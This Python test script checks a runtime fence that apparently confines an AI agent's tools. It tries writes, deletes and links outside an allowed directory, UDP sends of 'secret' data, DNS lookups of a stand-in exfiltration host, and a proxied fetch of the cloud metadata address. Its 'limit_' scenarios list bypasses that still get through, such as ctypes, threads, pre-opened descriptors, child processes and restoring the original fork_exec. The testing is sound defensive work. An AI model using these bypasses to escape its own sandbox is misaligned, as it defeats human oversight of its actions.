"""Runtime-fence scenarios for every path, socket and process form, run in a child process.

argv: WORK_DIR. Prints one JSON object: scenario name -> {"error", "outcome", "effect"}, where
``effect`` is what really happened on disk or on the wire (checked after the call, unfenced).
The ``__main__`` guard matters: multiprocessing's spawn start method imports this file again.
"""

from __future__ import annotations

import ctypes
import json
import multiprocessing
import os
import pathlib
import shutil
import socket
import subprocess
import sys
import threading
import urllib.request
from collections.abc import Callable
from typing import Any

from http_stub import serve


def write_outside(path: str) -> None:
    """A multiprocessing target: write a file (in the child, which has no fence)."""
    pathlib.Path(path).write_text("child")


def main() -> None:
    import _posixsubprocess

    import guardkit
    from guardkit import EgressRule, Runtime

    # Taken before the first fenced call installs the hook (and wraps fork_exec).
    unaudited_fork_exec = _posixsubprocess.fork_exec

    work = pathlib.Path(sys.argv[1]).resolve()
    allowed, outside = work / "allowed", work / "outside"
    allowed.mkdir()
    outside.mkdir()
    os.chdir(allowed)  # relative paths resolve inside the write root unless a dir_fd says not

    guard = guardkit.Guard(":memory:")
    policy = {"budget": 10**6, "scar_limit": 10**6, "tools": {}, "default_rule": {"cost": 0}}
    guard.create_agent("a", policy)
    guardkit.use_agent(guard.agent("a"))
    results: dict[str, Any] = {}
    fence = Runtime(write_roots=[str(allowed)])

    def scenario(
        name: str, body: Callable[[], Any], effect: Callable[[], Any], runtime: Any = fence
    ) -> None:
        def tool_body() -> Any:
            return body()

        tool_body.__name__ = name
        error = None
        try:
            guardkit.tool(name, runtime=runtime)(tool_body)()
        except Exception as exc:
            error = f"{type(exc).__name__}: {exc}"
        outcomes = [r["payload"] for r in guard.log("a")["records"] if r["kind"] == "outcome"]
        results[name] = {"error": error, "outcome": outcomes[-1], "effect": effect()}

    def victim(name: str, text: str = "original") -> pathlib.Path:
        path = outside / name
        path.write_text(text)
        return path

    def untouched(path: pathlib.Path, text: str = "original") -> Callable[[], bool]:
        return lambda: path.exists() and path.read_text() == text

    # -- dir_fd, src_dir_fd, dst_dir_fd -------------------------------------------------------
    def open_dir_fd() -> None:
        fd = os.open(outside, os.O_RDONLY)
        try:
            os.close(os.open("dirfd.txt", os.O_WRONLY | os.O_CREAT, dir_fd=fd))
        finally:
            os.close(fd)

    scenario("os_open_dir_fd", open_dir_fd, lambda: not (outside / "dirfd.txt").exists())

    (allowed / "sub").mkdir()

    def open_dir_fd_inside() -> None:
        fd = os.open(allowed / "sub", os.O_RDONLY)
        try:
            os.close(os.open("ok.txt", os.O_WRONLY | os.O_CREAT, dir_fd=fd))
        finally:
            os.close(fd)

    scenario("os_open_dir_fd_inside", open_dir_fd_inside, (allowed / "sub/ok.txt").exists)

    (allowed / "mine.txt").write_text("mine")

    def rename_dir_fds() -> None:
        src, dst = os.open(allowed, os.O_RDONLY), os.open(outside, os.O_RDONLY)
        try:
            os.rename("mine.txt", "planted.txt", src_dir_fd=src, dst_dir_fd=dst)
        finally:
            os.close(src)
            os.close(dst)

    scenario("rename_dst_dir_fd", rename_dir_fds, lambda: not (outside / "planted.txt").exists())
    removable = victim("by_fd.txt")

    def remove_dir_fd() -> None:
        fd = os.open(outside, os.O_RDONLY)
        try:
            os.remove("by_fd.txt", dir_fd=fd)
        finally:
            os.close(fd)

    scenario("remove_dir_fd", remove_dir_fd, untouched(removable))

    # -- every other path-taking operation ---------------------------------------------------
    truncated = victim("truncate.txt")
    scenario("truncate", lambda: os.truncate(truncated, 0), untouched(truncated))

    held = os.open(truncated, os.O_RDWR)  # opened before (and outside) the call
    scenario("ftruncate_descriptor", lambda: os.truncate(held, 0), untouched(truncated))
    os.close(held)
    moved = victim("moved.txt")
    scenario("rename_out", lambda: os.rename(moved, allowed / "moved.txt"), untouched(moved))
    scenario(
        "replace_in",
        lambda: os.replace(allowed / "mine.txt", outside / "replaced.txt"),
        lambda: not (outside / "replaced.txt").exists(),
    )
    removed = victim("removed.txt")
    scenario("remove", lambda: os.remove(removed), untouched(removed))
    unlinked = victim("unlinked.txt")
    scenario("unlink", lambda: pathlib.Path(unlinked).unlink(), untouched(unlinked))
    (outside / "empty").mkdir()
    scenario("rmdir", lambda: os.rmdir(outside / "empty"), (outside / "empty").is_dir)
    scenario("mkdir", lambda: os.mkdir(outside / "made"), lambda: not (outside / "made").exists())
    (outside / "tree").mkdir()
    tree_file = victim("tree/leaf.txt")
    scenario("rmtree", lambda: shutil.rmtree(outside / "tree"), untouched(tree_file))
    modes = victim("modes.txt")
    modes.chmod(0o644)
    scenario("chmod", lambda: os.chmod(modes, 0o777), lambda: modes.stat().st_mode & 0o777 == 0o644)
    scenario("chown", lambda: os.chown(modes, -1, -1), lambda: True)
    os.utime(modes, (1_000_000, 1_000_000))
    scenario("utime", lambda: os.utime(modes), lambda: modes.stat().st_mtime == 1_000_000)
    scenario(
        "symlink",
        lambda: os.symlink(allowed / "x", outside / "link"),
        lambda: not (outside / "link").is_symlink(),
    )
    scenario(
        "link_to_outside_name",
        lambda: os.link(allowed / "mine.txt", outside / "hard.txt"),
        lambda: not (outside / "hard.txt").exists(),
    )
    linked = victim("linked.txt")

    def write_through_own_link() -> None:
        os.link(linked, allowed / "via_link.txt")
        (allowed / "via_link.txt").write_text("changed")

    scenario("write_through_own_hard_link", write_through_own_link, untouched(linked))
    earlier = victim("earlier.txt")
    os.link(earlier, allowed / "earlier_link.txt")  # a link made before (and outside) the call
    scenario(
        "write_through_existing_hard_link",
        lambda: (allowed / "earlier_link.txt").write_text("changed"),
        untouched(earlier),
    )
    copied = victim("copied.txt")
    scenario(
        "copyfile_over",
        lambda: shutil.copyfile(allowed / "mine.txt", copied),
        untouched(copied),
    )
    scenario(
        "move_out",
        lambda: shutil.move(str(allowed / "mine.txt"), str(outside / "moved_away.txt")),
        lambda: not (outside / "moved_away.txt").exists(),
    )

    # -- what honest tools do inside their root still works ------------------------------------
    def inside() -> None:
        (allowed / "work").mkdir()
        (allowed / "work/a.txt").write_text("a")
        os.rename(allowed / "work/a.txt", allowed / "work/b.txt")
        shutil.copyfile(allowed / "work/b.txt", allowed / "work/c.txt")
        os.chmod(allowed / "work/c.txt", 0o600)
        os.utime(allowed / "work/c.txt")
        os.symlink("c.txt", allowed / "work/d.txt")
        os.truncate(allowed / "work/c.txt", 0)
        os.remove(allowed / "work/d.txt")
        shutil.rmtree(allowed / "work")

    scenario("honest_file_work_inside", inside, lambda: not (allowed / "work").exists())

    # -- sockets -------------------------------------------------------------------------------
    receiver = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    receiver.bind(("127.0.0.1", 0))
    receiver.settimeout(0.5)
    target = receiver.getsockname()

    def received() -> bool:
        try:
            receiver.recv(100)
        except TimeoutError:
            return False
        return True

    def sendmsg() -> None:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.sendmsg([b"secret"], [], 0, target)

    scenario("udp_sendmsg", sendmsg, lambda: not received())

    def sendto() -> None:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.sendto(b"secret", target)

    scenario("udp_sendto", sendto, lambda: not received())
    scenario(
        "lookup_unlisted_name",
        lambda: socket.getaddrinfo("secret-data.exfil.invalid", 80),
        lambda: True,
    )
    scenario(
        "gethostbyname_unlisted_name",
        lambda: socket.gethostbyname("secret-data.exfil.invalid"),
        lambda: True,
    )
    scenario(
        "lookup_listed_name",
        lambda: socket.getaddrinfo("localhost", 80),
        lambda: True,
        runtime=Runtime(egress=[EgressRule(allow_hosts=["localhost"])]),
    )

    # -- processes -----------------------------------------------------------------------------
    for method in ("spawn", "forkserver"):

        def start(method: str = method) -> None:
            context = multiprocessing.get_context(method)
            child = context.Process(target=write_outside, args=(str(outside / f"{method}.txt"),))
            child.start()
            child.join(30)

        scenario(
            f"multiprocessing_{method}", start, lambda m=method: not (outside / f"{m}.txt").exists()
        )
    scenario(
        "multiprocessing_spawn_allowed",
        lambda: start_allowed(outside / "allowed_spawn.txt"),
        (outside / "allowed_spawn.txt").exists,
        runtime=Runtime(subprocess=True),
    )
    scenario("os_kill", lambda: os.kill(os.getpid(), 0), lambda: True)

    # -- what the fence cannot see (docs/tools.md): each still gets through --------------------
    libc = ctypes.CDLL(None, use_errno=True)
    libc.creat.argtypes = [ctypes.c_char_p, ctypes.c_int]
    scenario(
        "limit_ctypes",
        lambda: os.close(libc.creat(os.fsencode(outside / "ctypes.txt"), 0o644)),
        (outside / "ctypes.txt").exists,
    )

    def in_a_thread() -> None:
        worker = threading.Thread(target=(outside / "thread.txt").write_text, args=("t",))
        worker.start()
        worker.join()

    scenario("limit_threads", in_a_thread, (outside / "thread.txt").exists)
    early = os.open(outside / "early_fd.txt", os.O_WRONLY | os.O_CREAT)
    scenario(
        "limit_descriptor_opened_before",
        lambda: os.write(early, b"late"),
        lambda: (outside / "early_fd.txt").read_bytes() == b"late",
    )
    os.close(early)
    scenario(
        "limit_mkfifo",
        lambda: os.mkfifo(outside / "fifo"),
        lambda: (outside / "fifo").exists(),
    )
    sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sender.connect(target)  # connected before the call
    scenario("limit_socket_connected_before", lambda: sender.send(b"secret"), received)
    sender.close()
    proxy_port = _fake_proxy()
    local = EgressRule(allow_networks=["127.0.0.1/32"], allow_ports=[proxy_port])

    def through_proxy() -> bytes:
        handler = urllib.request.ProxyHandler({"http": f"http://127.0.0.1:{proxy_port}"})
        opener = urllib.request.build_opener(handler)
        return opener.open("http://169.254.169.254/latest/meta-data/", timeout=5).read()

    scenario(
        "limit_proxy",
        through_proxy,
        lambda: _PROXIED == ["http://169.254.169.254/latest/meta-data/"],
        runtime=Runtime(egress=[local]),
    )
    scenario(
        "limit_child_process",
        lambda: subprocess.run(
            [sys.executable, "-c", f"open({str(outside / 'child.txt')!r}, 'w').close()"],
            check=True,
        ),
        (outside / "child.txt").exists,
        runtime=Runtime(subprocess=True),
    )

    def with_captured_fork_exec() -> None:
        import multiprocessing.util

        wrapped = _posixsubprocess.fork_exec
        _posixsubprocess.fork_exec = unaudited_fork_exec
        try:
            code = f"open({str(outside / 'captured.txt')!r}, 'w').close()"
            pid = multiprocessing.util.spawnv_passfds(
                os.fsencode(sys.executable), [sys.executable, "-c", code], []
            )
            os.waitpid(pid, 0)
        finally:
            _posixsubprocess.fork_exec = wrapped

    scenario("limit_captured_fork_exec", with_captured_fork_exec, (outside / "captured.txt").exists)
    receiver.close()
    print(json.dumps(results))


def start_allowed(path: pathlib.Path) -> None:
    child = multiprocessing.get_context("spawn").Process(target=write_outside, args=(str(path),))
    child.start()
    child.join(30)


_PROXIED: list[str] = []


def _fake_proxy() -> int:
    def answer(path: str) -> tuple[int, dict[str, str], bytes]:
        _PROXIED.append(path)  # a proxy sees the absolute URL the client asked for
        return 200, {}, b"proxied"

    return serve(answer)


if __name__ == "__main__":
    main()
